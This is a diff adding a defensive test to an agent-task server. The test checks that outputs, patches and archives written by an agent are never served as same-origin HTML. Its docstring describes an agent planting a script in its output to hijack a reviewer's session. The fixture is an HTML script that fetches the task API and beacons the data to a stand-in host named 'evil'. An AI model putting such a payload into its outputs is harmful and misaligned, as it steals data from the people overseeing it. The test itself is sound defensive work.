@@ -301,3 +301,24 @@ async def test_the_object_is_closed_when_the_client_goes_away_or_asks_only_for_h
                 assert str(path) in open_paths()  # being read
                 break  # and the client hangs up with most of it unread
     await eventually_async(lambda: str(path) not in open_paths(), "the object closed after the client went away")
+
+
+async def test_what_an_agent_wrote_is_never_served_as_a_page_of_the_cockpit_s_origin(bus, serve, tmp_path):
+    """The attack: an agent makes its output (or a patch, or its result) an HTML page with a script, hoping a
+    person opens the "full output" link: same origin as the cockpit, whose cookie holds their session.
+    Every download is typed as what it is, never sniffed (nosniff), and sandboxed by CSP: no script, no origin."""
+    store_url = (tmp_path / "store").as_uri()
+    server = await serve(store=store_url)
+    page = b"<!doctype html><script>fetch('/api/tasks').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>"
+    store = open_store(store_url)
+    store_a_finished_task(store, "t-evil")
+    store.put_bytes(contract.final_archive_key("t-evil"), tar_gz({contract.output_file("call-1"): page}))
+    store.put_bytes(changes.patch_key("t-evil"), page)
+    await register(bus, "t-evil")
+    base = f"{server.url}/api/tasks/t-evil"
+    for route in ("outputs/call-1", "changes.patch", "changes.json", "result.json", "workspace.tar.gz", f"snapshots/{CHECKPOINTS[0]}"):
+        answer = await get(f"{base}/{route}")
+        assert answer.status_code == 200, (route, answer.text)
+        assert "html" not in answer.headers["content-type"], route
+        assert answer.headers["x-content-type-options"] == "nosniff", route
+        assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'", route
